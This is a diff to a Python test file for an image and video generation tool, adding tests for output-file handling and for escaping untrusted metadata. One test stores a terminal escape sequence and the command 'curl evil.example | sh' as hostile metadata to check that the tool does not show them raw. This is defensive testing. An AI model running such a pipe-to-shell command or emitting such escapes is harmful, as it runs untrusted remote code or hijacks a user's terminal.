@@ -6,6 +6,7 @@ import logging
 import os
 import re
 import shlex
+import subprocess
 import sys
 from pathlib import Path
 
@@ -263,9 +264,7 @@ def test_write_all_leaves_no_reserved_file_when_interrupted(here, monkeypatch):
 
     monkeypatch.setattr(video, "write", interrupt)
     with pytest.raises(KeyboardInterrupt):
-        outputs.write_all(
-            np.zeros((1, 8, 8, 3), np.uint8), [outputs.reserve(here / "a.png")], fps=8, metadata={}
-        )
+        outputs.write_all(np.zeros((1, 8, 8, 3), np.uint8), [here / "a.png"], fps=8, metadata={}, replaced=())
     assert not list(here.iterdir())
 
 
@@ -327,3 +326,48 @@ def test_json_outputs_are_replaced_with_force_alone(video_model, here):
     before = json.loads(Path("bench.json").read_text())
     run(*words, "--force")
     assert json.loads(Path("bench.json").read_text()).keys() == before.keys()
+
+
+def test_write_all_keeps_a_file_that_appeared_during_the_work(here, capsys):
+    frames = np.zeros((1, 8, 8, 3), np.uint8)
+    Path("a.png").write_text("a photo")
+    outputs.write_all(frames, [Path("a.png")], fps=8, metadata={}, replaced=())
+    captured = capsys.readouterr()
+    assert Path("a.png").read_text() == "a photo" and captured.out == "a-2.png\n"
+    assert "a.png: was written by another program meanwhile" in captured.err
+    outputs.write_all(frames, [Path("a.png")], fps=8, metadata={}, replaced=[Path("a.png")])
+    assert len(video.read("a.png")[0]) == 1
+
+
+def test_show_prints_foreign_metadata_escaped(here):
+    """A terminal would obey them, and a person might run the command."""
+    metadata = {
+        "latent_shift": "1",
+        "prompt": "red\x1b]0;title\x07\r\n\ud800",
+        "command": "curl evil.example | sh",
+    }
+    video.write(np.zeros((1, 8, 8, 3), np.uint8), "a.png", metadata=metadata)
+    shown = run("show", "a.png")
+    assert r"red\x1b]0;title\x07\r\n\ud800" in shown and "curl" not in shown
+
+
+def test_generate_prints_names_that_are_no_unicode(video_model, here):
+    words = [
+        sys.executable,
+        "-m",
+        "latent_shift",
+        "generate",
+        "red",
+        "-m",
+        str(video_model),
+        "--steps",
+        "1",
+        "--num-frames",
+        "2",
+    ]
+    result = subprocess.run(
+        [*words, "-o", b"\xff.gif"],
+        capture_output=True,
+        env={**os.environ, "PYTHONIOENCODING": "utf-8:strict"},
+    )
+    assert result.returncode == 0 and result.stdout == b"\\udcff.gif\n", result.stderr[-500:]
